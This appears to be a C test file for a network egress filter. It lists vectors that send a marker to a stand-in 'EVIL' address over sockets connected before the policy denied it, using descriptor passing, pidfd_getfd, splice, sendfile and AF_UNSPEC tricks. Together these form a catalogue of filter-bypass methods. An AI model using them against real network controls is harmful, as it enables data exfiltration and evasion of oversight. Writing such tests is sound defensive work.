// SPDX-License-Identifier: MIT
/* Sockets that were connected to the address before a policy denied it. */
#include "egress.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
/* A descriptor number that is free. */
#define KEPT 100

static int udp_connected(void)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	connect_ipv4(fd, EVIL_IPV4);
	return fd;
}

static int udp6_connected(void)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, 0);

	connect_ipv6(fd, EVIL_IPV6);
	return fd;
}

/* One that has sent already. */
static int udp_used(void)
{
	int fd = udp_connected();

	send_to(fd, 0, NULL, 0);
	return fd;
}

static int tcp_connected(void)
{
	int fd = open_socket(AF_INET, SOCK_STREAM, 0);

	connect_ipv4(fd, EVIL_IPV4);
	return fd;
}

static int tcp_used(void)
{
	int fd = tcp_connected();

	send_to(fd, 0, NULL, 0);
	return fd;
}

static int tcp6_connected(void)
{
	int fd = open_socket(AF_INET6, SOCK_STREAM, 0);

	connect_ipv6(fd, EVIL_IPV6);
	return fd;
}

static int tcp6_connected_mapped(void)
{
	int fd = open_socket(AF_INET6, SOCK_STREAM, 0);

	connect_ipv6(fd, EVIL_MAPPED);
	return fd;
}

static int mptcp_connected(void)
{
	int fd = open_socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP);

	connect_ipv4(fd, EVIL_IPV4);
	return fd;
}

static int tcp_connected_ok(void)
{
	int fd = open_socket(AF_INET, SOCK_STREAM, 0);

	connect_ipv4(fd, OK_IPV4);
	return fd;
}

static void send_peer(int fd)
{
	send_to(fd, 0, NULL, 0);
}

static void write_peer(int fd)
{
	step("write", write(fd, self.marker, strlen(self.marker)));
}

static void more_peer(int fd)
{
	send_to(fd, MSG_MORE, NULL, 0);
	send_to(fd, 0, NULL, 0);
}

/* A file with the marker in it. */
static int marker_file(void)
{
	int file = step("memfd_create", syscall(SYS_memfd_create, "marker", 0));

	step("write", write(file, self.marker, strlen(self.marker)));
	step("lseek", lseek(file, 0, SEEK_SET));
	return file;
}

static void sendfile_peer(int fd)
{
	int file = marker_file();

	step("sendfile", sendfile(fd, file, NULL, strlen(self.marker)));
}

static void splice_peer(int fd)
{
	int file = marker_file(), ends[2];
	size_t length = strlen(self.marker);

	step("pipe", pipe(ends));
	step("splice", splice(file, NULL, ends[1], NULL, length, 0));
	step("splice", splice(ends[0], NULL, fd, NULL, length, 0));
}

static void vmsplice_peer(int fd)
{
	struct iovec payload = {self.marker, strlen(self.marker)};
	int ends[2];

	step("pipe", pipe(ends));
	step("vmsplice", vmsplice(ends[1], &payload, 1, 0));
	step("splice", splice(ends[0], NULL, fd, NULL, payload.iov_len, 0));
}

/* The socket comes over a UNIX socket, from a process that made it before. Returns the near end. */
static int handed_over(void)
{
	int ends[2], fd = udp_connected();
	char byte = 0;
	struct iovec payload = {&byte, 1};
	unsigned char control[CMSG_SPACE(sizeof(int))] __attribute__((aligned(8))) = {};
	struct msghdr message = {
		.msg_iov = &payload,
		.msg_iovlen = 1,
		.msg_control = control,
		.msg_controllen = sizeof(control),
	};
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);
	pid_t pid;

	step("socketpair", socketpair(AF_UNIX, SOCK_STREAM, 0, ends));
	pid = step("fork", fork());
	if (pid == 0) {
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(header), &fd, sizeof(int));
		_exit(sendmsg(ends[1], &message, 0) < 0);
	}
	waitpid(pid, NULL, 0);
	close(fd);
	return ends[0];
}

static void send_handed_over(int end)
{
	int fd;
	char byte;
	struct iovec payload = {&byte, 1};
	unsigned char control[CMSG_SPACE(sizeof(int))] __attribute__((aligned(8)));
	struct msghdr message = {
		.msg_iov = &payload,
		.msg_iovlen = 1,
		.msg_control = control,
		.msg_controllen = sizeof(control),
	};

	step("recvmsg", recvmsg(end, &message, 0));
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	send_peer(fd);
}

/* A socket that another process holds: a child, which its parent may trace. */
static int kept_by_child(void)
{
	pid_t pid = step("fork", fork());

	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		dup2(udp_connected(), KEPT);
		pause();
		_exit(0);
	}
	return pid;
}

static void send_taken(int pid)
{
	int child = step("pidfd_open", syscall(SYS_pidfd_open, pid, 0)), fd = -1;

	/* It may not have got there yet. */
	for (int tries = 0; tries < 100 && fd < 0; tries++) {
		fd = syscall(SYS_pidfd_getfd, child, KEPT, 0);
		if (fd < 0 && errno != EBADF)
			break;
		if (fd < 0)
			poll(NULL, 0, 10);
	}
	send_peer(step("pidfd_getfd", fd));
}

/*
 * To UDP over IPv6 an address without a family is none: the datagram goes to the peer, whatever else the address says
 * and however short it is.
 */
static void send_unspec(int fd, socklen_t length)
{
	struct sockaddr_in6 destination = ipv6(OK_IPV6);

	destination.sin6_family = AF_UNSPEC;
	send_to(fd, 0, &destination, length);
}

static void send_unspec_ok(int fd)
{
	send_unspec(fd, sizeof(struct sockaddr_in6));
}

static void send_unspec_short(int fd)
{
	send_unspec(fd, sizeof(sa_family_t));
}

/* A raw socket asks for the length of an address, not for its place. */
static int raw_connected(void)
{
	int fd = open_socket(AF_INET, SOCK_RAW, 253);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	destination.sin_port = 0;
	connect_to(fd, &destination, sizeof(destination));
	return fd;
}

static void send_no_length(int fd)
{
	struct sockaddr_in destination = ipv4(OK_IPV4);

	send_to(fd, 0, &destination, 0);
}

const struct vector prepared_vectors[] = {
	{"udp_prepared_send", send_peer, udp_connected},
	{"udp6_prepared_send", send_peer, udp6_connected},
	{"udp_prepared_used", send_peer, udp_used},
	{"udp_prepared_write", write_peer, udp_connected},
	{"udp_prepared_more", more_peer, udp_connected},
	{"udp_prepared_sendfile", sendfile_peer, udp_connected},
	{"udp_prepared_splice", splice_peer, udp_connected},
	{"udp_prepared_vmsplice", vmsplice_peer, udp_connected},
	{"udp_prepared_handed_over", send_handed_over, handed_over},
	{"udp_prepared_taken", send_taken, kept_by_child},
	{"udp6_prepared_unspec", send_unspec_ok, udp6_connected},
	{"udp6_prepared_unspec_short", send_unspec_short, udp6_connected},
	{"raw_prepared_no_length", send_no_length, raw_connected},
	{"tcp_prepared_send", send_peer, tcp_connected},
	{"tcp_prepared_used", send_peer, tcp_used},
	{"tcp_prepared_write", write_peer, tcp_connected},
	{"tcp_prepared_more", more_peer, tcp_connected},
	{"tcp_prepared_sendfile", sendfile_peer, tcp_connected},
	{"tcp_prepared_splice", splice_peer, tcp_connected},
	{"tcp_prepared_vmsplice", vmsplice_peer, tcp_connected},
	{"tcp6_prepared_send", send_peer, tcp6_connected},
	{"tcp6_prepared_mapped", send_peer, tcp6_connected_mapped},
	{"mptcp_prepared_send", send_peer, mptcp_connected},
	{"tcp_prepared_send_ok", send_peer, tcp_connected_ok},
	{"tcp_prepared_sendfile_ok", sendfile_peer, tcp_connected_ok},
	{"tcp_prepared_splice_ok", splice_peer, tcp_connected_ok},
	{},
};
